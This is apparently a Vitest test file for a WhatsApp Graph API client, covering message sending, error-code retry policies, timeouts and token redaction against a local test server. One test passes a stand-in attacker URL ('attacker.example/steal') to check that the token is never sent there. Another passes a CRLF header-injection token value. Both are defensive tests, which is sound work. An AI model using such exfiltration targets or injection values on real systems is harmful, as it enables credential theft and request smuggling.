/**
 * The Graph client against a tiny real HTTP server on loopback (no mocks of fetch).
 */
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { inspect } from 'node:util';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { createGraphClient, GraphApiError, isRetryable, textMessage } from '../src/index.ts';

const TOKEN = 'EAAGm0PX4ZCpsBOwSECRETtokenZZ9x7Q2pL4vN8kR1tY6uI3oP0aS5dF';
const APP_TOKEN = '1234567890|appSECRETtoken_abcdefghijklmnop';
const PHONE_ID = '106540352242922';

interface Seen {
  method: string;
  url: string;
  headers: IncomingMessage['headers'];
  body: string;
}
type Handler = (req: IncomingMessage, body: string, res: ServerResponse) => void;

let server: Server;
let baseUrl: string;
let handler: Handler;
const seen: Seen[] = [];

function json(res: ServerResponse, status: number, body: unknown): void {
  res.writeHead(status, { 'content-type': 'application/json' });
  res.end(JSON.stringify(body));
}

/** Meta's error envelope. */
function metaError(code: number, message: string, extra: Record<string, unknown> = {}) {
  return {
    error: {
      message,
      type: 'OAuthException',
      code,
      error_data: { messaging_product: 'whatsapp', details: `details for ${code}` },
      fbtrace_id: 'AbCdEfGhIjK',
      ...extra,
    },
  };
}

beforeAll(async () => {
  server = createServer((req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (c: string) => (body += c));
    req.on('end', () => {
      seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      handler(req, body, res);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterEach(() => {
  seen.length = 0;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

/** Everything an error exposes, rendered every way a logger might. */
function everyRendering(err: unknown): string {
  const e = err as Error & Record<string, unknown>;
  const props = Object.getOwnPropertyNames(e).map((k) => {
    try {
      return `${k}=${String(e[k])}`;
    } catch {
      return k;
    }
  });
  return [String(e), e.stack ?? '', e.message, JSON.stringify(e), inspect(e, { depth: 10, showHidden: true }), ...props].join('\n');
}

async function catchError(p: Promise<unknown>): Promise<GraphApiError> {
  try {
    await p;
  } catch (err) {
    expect(err).toBeInstanceOf(GraphApiError);
    return err as GraphApiError;
  }
  throw new Error('expected the call to fail');
}

describe('createGraphClient', () => {
  const client = () => createGraphClient({ baseUrl, version: 'v23.0', timeoutMs: 2000 });

  it('sendMessage posts JSON with the bearer token and returns the wamid', async () => {
    handler = (_req, _body, res) =>
      json(res, 200, {
        messaging_product: 'whatsapp',
        contacts: [{ input: '16505551234', wa_id: '16505551234' }],
        messages: [{ id: 'wamid.OUTBOUND1', message_status: 'accepted' }],
      });
    const payload = textMessage('16505551234', 'Habari! We open at 9.');
    await expect(client().sendMessage(PHONE_ID, TOKEN, payload)).resolves.toEqual({ wamid: 'wamid.OUTBOUND1' });
    const req = seen[0] as Seen;
    expect(req.method).toBe('POST');
    expect(req.url).toBe(`/v23.0/${PHONE_ID}/messages`);
    expect(req.headers['authorization']).toBe(`Bearer ${TOKEN}`);
    expect(req.headers['content-type']).toBe('application/json');
    expect(req.url).not.toContain(TOKEN);
    expect(JSON.parse(req.body)).toEqual(payload);
  });

  it('markRead sends the read receipt, with the typing indicator when asked', async () => {
    handler = (_req, _body, res) => json(res, 200, { success: true });
    await client().markRead(PHONE_ID, TOKEN, 'wamid.IN1');
    await client().markRead(PHONE_ID, TOKEN, 'wamid.IN2', { typing: true });
    expect(JSON.parse((seen[0] as Seen).body)).toEqual({ messaging_product: 'whatsapp', status: 'read', message_id: 'wamid.IN1' });
    expect(JSON.parse((seen[1] as Seen).body)).toEqual({
      messaging_product: 'whatsapp',
      status: 'read',
      message_id: 'wamid.IN2',
      typing_indicator: { type: 'text' },
    });
  });

  it('debugToken reports validity, expiry and scopes', async () => {
    handler = (_req, _body, res) =>
      json(res, 200, {
        data: {
          app_id: '1234567890',
          type: 'SYSTEM_USER',
          is_valid: true,
          expires_at: 1801440000,
          scopes: ['whatsapp_business_management', 'whatsapp_business_messaging'],
        },
      });
    const info = await client().debugToken(TOKEN, APP_TOKEN);
    expect(info).toEqual({
      isValid: true,
      expiresAt: new Date(1801440000 * 1000),
      scopes: ['whatsapp_business_management', 'whatsapp_business_messaging'],
    });
    const req = seen[0] as Seen;
    expect(req.method).toBe('GET');
    expect(new URL(req.url, baseUrl).pathname).toBe('/v23.0/debug_token');
    expect(new URL(req.url, baseUrl).searchParams.get('input_token')).toBe(TOKEN);
    expect(req.headers['authorization']).toBe(`Bearer ${APP_TOKEN}`);

    handler = (_req, _body, res) => json(res, 200, { data: { is_valid: false, expires_at: 0, scopes: [] } });
    expect(await client().debugToken(TOKEN, APP_TOKEN)).toEqual({ isValid: false, expiresAt: null, scopes: [] });
  });

  it('getMediaUrl and downloadMedia', async () => {
    const bytes = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 1, 2, 3]);
    handler = (req, _body, res) => {
      if (req.url?.startsWith('/v23.0/1003383421387256')) {
        json(res, 200, {
          messaging_product: 'whatsapp',
          url: `${baseUrl}/media/download?mid=1003383421387256`,
          mime_type: 'image/jpeg',
          sha256: 'abc',
          file_size: bytes.length,
          id: '1003383421387256',
        });
      } else {
        res.writeHead(200, { 'content-type': 'image/jpeg' });
        res.end(bytes);
      }
    };
    const c = client();
    const media = await c.getMediaUrl('1003383421387256', TOKEN);
    expect(media).toEqual({ url: `${baseUrl}/media/download?mid=1003383421387256`, mimeType: 'image/jpeg', sha256: 'abc', fileSize: 7 });
    const data = await c.downloadMedia(media.url, TOKEN);
    expect(data.equals(bytes)).toBe(true);
    expect((seen[1] as Seen).headers['authorization']).toBe(`Bearer ${TOKEN}`);

    await expect(c.downloadMedia(media.url, TOKEN, { maxBytes: 3 })).rejects.toMatchObject({ code: -4, policy: 'fail' });
  });

  it('downloadMedia refuses to send the token to a foreign host', async () => {
    handler = (_req, _body, res) => json(res, 200, {});
    const err = await catchError(client().downloadMedia('https://attacker.example/steal', TOKEN));
    expect(err).toMatchObject({ code: -4, policy: 'fail' });
    expect(seen).toHaveLength(0);
  });

  describe('errors map by Meta code, not HTTP status', () => {
    const cases: [number, number, string, string][] = [
      [400, 130429, '(#130429) Rate limit hit', 'retry'],
      [400, 131056, '(#131056) (Business Account, Consumer Account) pair rate limit hit', 'retry'],
      [400, 131047, 'Re-engagement message', 'outside_window'],
      [401, 190, 'Error validating access token: Session has expired', 'auth'],
      [400, 131026, 'Message undeliverable', 'fail'],
      [400, 368, 'Temporarily blocked for policies violations', 'fail'],
      [500, 131000, 'Something went wrong', 'retry'],
      [400, 999999, 'Brand new error', 'fail'],
    ];
    for (const [httpStatus, code, message, policy] of cases) {
      it(`${code} → ${policy}`, async () => {
        handler = (_req, _body, res) => json(res, httpStatus, metaError(code, message, { error_subcode: 2494055 }));
        const err = await catchError(client().sendMessage(PHONE_ID, TOKEN, textMessage('16505551234', 'hi')));
        expect(err).toMatchObject({
          code,
          subcode: 2494055,
          httpStatus,
          title: message,
          details: `details for ${code}`,
          fbtraceId: 'AbCdEfGhIjK',
          type: 'OAuthException',
          operation: 'sendMessage',
          policy,
        });
        expect(isRetryable(err)).toBe(policy === 'retry');
        expect(err.message).toContain(String(code));
      });
    }

    it('is_transient makes an unknown code retryable', async () => {
      handler = (_req, _body, res) => json(res, 400, metaError(987654, 'odd', { is_transient: true }));
      const err = await catchError(client().sendMessage(PHONE_ID, TOKEN, {}));
      expect(err).toMatchObject({ code: 987654, policy: 'retry' });
    });
  });

  it('an HTML 502 from a proxy → synthetic -502, retry', async () => {
    handler = (_req, _body, res) => {
      res.writeHead(502, { 'content-type': 'text/html' });
      res.end('<html><body><h1>502 Bad Gateway</h1></body></html>');
    };
    const err = await catchError(client().sendMessage(PHONE_ID, TOKEN, {}));
    expect(err).toMatchObject({ code: -502, httpStatus: 502, policy: 'retry' });
  });

  it('an HTML 404 → synthetic -404, fail', async () => {
    handler = (_req, _body, res) => {
      res.writeHead(404, { 'content-type': 'text/html' });
      res.end('<html>nope</html>');
    };
    const err = await catchError(client().sendMessage(PHONE_ID, TOKEN, {}));
    expect(err).toMatchObject({ code: -404, policy: 'fail' });
  });

  it('a timeout (no answer) → code -1, retry', async () => {
    handler = () => {
      /* never answer */
    };
    const c = createGraphClient({ baseUrl, timeoutMs: 150 });
    const started = Date.now();
    const err = await catchError(c.sendMessage(PHONE_ID, TOKEN, {}));
    expect(err).toMatchObject({ code: -1, policy: 'retry' });
    expect(Date.now() - started).toBeLessThan(2000);
    expect(everyRendering(err)).not.toContain(TOKEN);
  });

  it('a server that stalls mid-body also times out', async () => {
    handler = (_req, _body, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"messages":[');
    };
    const err = await catchError(createGraphClient({ baseUrl, timeoutMs: 150 }).sendMessage(PHONE_ID, TOKEN, {}));
    expect(err).toMatchObject({ code: -1, policy: 'retry' });
  });

  it('a refused connection → code -2, retry', async () => {
    const closed = createServer();
    await new Promise<void>((r) => closed.listen(0, '127.0.0.1', r));
    const port = (closed.address() as AddressInfo).port;
    await new Promise<void>((r) => closed.close(() => r()));
    const err = await catchError(createGraphClient({ baseUrl: `http://127.0.0.1:${port}` }).sendMessage(PHONE_ID, TOKEN, {}));
    expect(err).toMatchObject({ code: -2, policy: 'retry', details: 'ECONNREFUSED' });
    expect(everyRendering(err)).not.toContain(TOKEN);
  });

  it('a 200 without a wamid → code -3, fail (may have been sent: do not resend)', async () => {
    handler = (_req, _body, res) => json(res, 200, { messaging_product: 'whatsapp' });
    const err = await catchError(client().sendMessage(PHONE_ID, TOKEN, {}));
    expect(err).toMatchObject({ code: -3, policy: 'fail' });
  });

  it('a token that cannot be a header value is refused as 190 (auth), not retried as a network error', async () => {
    handler = (_req, _body, res) => json(res, 200, { messages: [{ id: 'wamid.X' }] });
    for (const bad of ['', 'EAA token with spaces', 'EAAtöken', 'EAA\r\nX-Injected: 1']) {
      const err = await catchError(client().sendMessage(PHONE_ID, bad, {}));
      expect(err).toMatchObject({ code: 190, policy: 'auth' });
    }
    expect(seen).toHaveLength(0);
  });

  it('an unserialisable payload is a programming error, not a retryable one', async () => {
    await expect(client().sendMessage(PHONE_ID, TOKEN, { n: 1n })).rejects.toBeInstanceOf(TypeError);
  });

  describe('the token never leaks', () => {
    it('not even when Meta echoes it back in the error message', async () => {
      handler = (_req, _body, res) =>
        json(res, 400, {
          error: {
            message: `Malformed access token ${TOKEN}`,
            type: 'OAuthException',
            code: 190,
            error_user_msg: `token was ${TOKEN}`,
            error_data: { details: `Invalid token: ${TOKEN}; also EAAOtherTokenLooking1234567890abc` },
            fbtrace_id: TOKEN,
          },
        });
      const err = await catchError(client().sendMessage(PHONE_ID, TOKEN, {}));
      expect(err.policy).toBe('auth');
      const all = everyRendering(err);
      expect(all).not.toContain(TOKEN);
      expect(all).not.toContain('EAAOtherTokenLooking1234567890abc');
      expect(all).toContain('[redacted]');
      for (const value of Object.values(err)) expect(String(value)).not.toContain(TOKEN);
    });

    it('for debug_token, neither the input token (in the query) nor the app token', async () => {
      handler = (_req, _body, res) =>
        json(res, 400, metaError(190, `Invalid OAuth access token - ${APP_TOKEN} / ${TOKEN}`));
      const err = await catchError(client().debugToken(TOKEN, APP_TOKEN));
      const all = everyRendering(err);
      expect(all).not.toContain(TOKEN);
      expect(all).not.toContain(APP_TOKEN);

      handler = () => {};
      const timeout = await catchError(createGraphClient({ baseUrl, timeoutMs: 100 }).debugToken(TOKEN, APP_TOKEN));
      expect(everyRendering(timeout)).not.toContain(TOKEN);
      expect(everyRendering(timeout)).not.toContain(APP_TOKEN);
    });

    it('nor through a 5xx page that contains it', async () => {
      handler = (_req, _body, res) => {
        res.writeHead(503, { 'content-type': 'text/html' });
        res.end(`<pre>Authorization: Bearer ${TOKEN}</pre>`);
      };
      const err = await catchError(client().sendMessage(PHONE_ID, TOKEN, {}));
      expect(err).toMatchObject({ code: -503, policy: 'retry' });
      expect(everyRendering(err)).not.toContain(TOKEN);
    });
  });

  it('reuses connections (keep-alive)', async () => {
    // A fresh server, so no pooled sockets from earlier tests take part.
    let connections = 0;
    const own = createServer((req, res) => {
      req.resume();
      req.on('end', () => json(res, 200, { messages: [{ id: 'wamid.K' }] }));
    });
    own.on('connection', () => connections++);
    await new Promise<void>((r) => own.listen(0, '127.0.0.1', r));
    try {
      const c = createGraphClient({ baseUrl: `http://127.0.0.1:${(own.address() as AddressInfo).port}` });
      for (let i = 0; i < 10; i++) await c.sendMessage(PHONE_ID, TOKEN, {});
      // undici may open a second socket while the first is being released, then alternates.
      expect(connections).toBeLessThanOrEqual(2);
    } finally {
      own.closeAllConnections();
      await new Promise<void>((r) => own.close(() => r()));
    }
  });
});
